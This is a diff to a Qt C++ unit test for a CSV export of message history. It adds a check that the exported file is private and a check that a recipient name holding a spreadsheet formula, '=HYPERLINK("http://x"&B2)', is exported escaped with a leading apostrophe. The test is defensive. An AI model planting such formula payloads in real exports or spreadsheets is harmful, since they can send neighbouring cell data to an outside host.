@@ -190,7 +190,9 @@ void tst_HistoryRows::exportsCsv()
     quoted.time = QDateTime(QDate(2026, 3, 1), QTime(9, 5, 7, 12), Qt::UTC);
     const qint64 first = store.begin(quoted).value();
     QVERIFY(store.finish(first, State::NotKnown, u"the answer was cut short"_s, 30000ms));
-    const qint64 second = store.begin(historySend(u"Zoë"_s, u"00491701234567"_s, u"Grüße \U0001F600"_s)).value();
+    const qint64 second
+        = store.begin(historySend(u"=HYPERLINK(\"http://x\"&B2)"_s, u"00491701234567"_s, u"Grüße \U0001F600"_s))
+              .value();
 
     const QString csv = m_dir->filePath(u"out/history.csv"_s);
     QVERIFY(QDir().mkpath(QFileInfo(csv).path()));
@@ -206,12 +208,13 @@ void tst_HistoryRows::exportsCsv()
     QCOMPARE(python.exitCode(), 0);
     const QJsonArray rows = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
     const auto line = [](const QStringList &fields) { return QJsonArray::fromStringList(fields); };
-    const HistoryRecord zoe = store.record(second).value();
+    const HistoryRecord newer = store.record(second).value();
     const QJsonArray expected{
         line({u"id"_s, u"time"_s, u"sender_name"_s, u"sender_number"_s, u"recipient_name"_s, u"recipient_number"_s,
               u"message"_s, u"culture"_s, u"endpoint"_s, u"state"_s, u"reason"_s, u"duration_ms"_s}),
-        line({QString::number(second), zoe.time.toString(Qt::ISODateWithMs), u"Alice"_s, u"00441234567890"_s,
-              u"Zoë"_s, u"00491701234567"_s, u"Grüße \U0001F600"_s, u"en-GB"_s, u"http://127.0.0.1:47159/"_s,
+        line({QString::number(second), newer.time.toString(Qt::ISODateWithMs), u"Alice"_s, u"00441234567890"_s,
+              u"'=HYPERLINK(\"http://x\"&B2)"_s, u"00491701234567"_s, u"Grüße \U0001F600"_s, u"en-GB"_s,
+              u"http://127.0.0.1:47159/"_s,
               u"sending"_s, QString(), QString()}),
         line({QString::number(first), u"2026-03-01T09:05:07.012Z"_s, u"Alice"_s, u"00441234567890"_s,
               u"Smith, Ann"_s, u"00447911000001"_s, u"She said \"hi\",\r\nthen left"_s, u"en-GB"_s,
@@ -222,6 +225,10 @@ void tst_HistoryRows::exportsCsv()
     QFile raw(csv);
     QVERIFY(raw.open(QIODevice::ReadOnly));
     QVERIFY(raw.readLine().endsWith("duration_ms\r\n"));
+    // Other people's numbers and messages: the fixture's umask would let
+    // anyone read a file created without a mode of its own.
+    const QFileDevice::Permissions others = QFile::ReadGroup | QFile::WriteGroup | QFile::ReadOther | QFile::WriteOther;
+    QCOMPARE(raw.permissions() & others, QFileDevice::Permissions());
 }
 
 void tst_HistoryRows::failedExportLeavesNoFile()
